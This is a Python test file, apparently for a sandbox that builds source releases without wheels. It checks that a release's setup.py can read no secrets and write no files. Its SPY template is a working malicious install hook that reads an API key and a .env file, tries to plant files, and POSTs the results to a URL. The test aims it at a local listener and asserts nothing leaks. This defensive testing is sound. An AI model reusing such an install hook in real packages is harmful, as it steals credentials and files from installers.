"""A release without a wheel runs its own code to be looked into: it sees and changes nothing."""

import io
import json
import os
import tarfile
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from small_project import World
from srft_sdists.build import Cache, NotBuiltError
from srft_sdists.source import release_repository

SPY = """
import json, os, pathlib, urllib.request
def tried(step):
    try:
        return step()
    except OSError as error:
        return type(error).__name__
seen = [
    os.environ.get("OPENAI_API_KEY"),
    tried(lambda: pathlib.Path({secret!r}).read_text()),
    tried(lambda: pathlib.Path(os.__file__).parent.joinpath("planted.py").write_text("")),
]
tried(lambda: pathlib.Path({planted!r}).write_text("in the sandbox's own /tmp"))
urllib.request.urlopen({url!r}, data=json.dumps(seen).encode())
raise SystemExit("spied")
"""


def test_code_of_a_release_reads_no_key_and_no_file_and_writes_none(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    told: list[object] = []

    class Listener(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(200)
            self.end_headers()

    secret, planted, links = tmp_path / ".env", tmp_path / "planted", tmp_path / "links"
    secret.write_text("KEY=secret")
    links.mkdir()
    with HTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        url = f"http://127.0.0.1:{server.server_port}/"
        setup = SPY.format(secret=str(secret), planted=str(planted), url=url).encode()
        with tarfile.open(links / "srft_sdist_spy-1.0.tar.gz", "w:gz") as archive:
            member = tarfile.TarInfo("srft_sdist_spy-1.0/setup.py")
            member.size = len(setup)
            archive.addfile(member, io.BytesIO(setup))
        monkeypatch.setenv("PIP_FIND_LINKS", f"{links} {os.environ.get('PIP_FIND_LINKS', '')}")
        monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
        with pytest.raises(NotBuiltError, match="pip download failed"):
            release_repository("srft-sdist-spy", "1.0", Cache.of(world.home))
        server.shutdown()
    assert told == [[None, "FileNotFoundError", "OSError"]]
    assert not planted.exists()
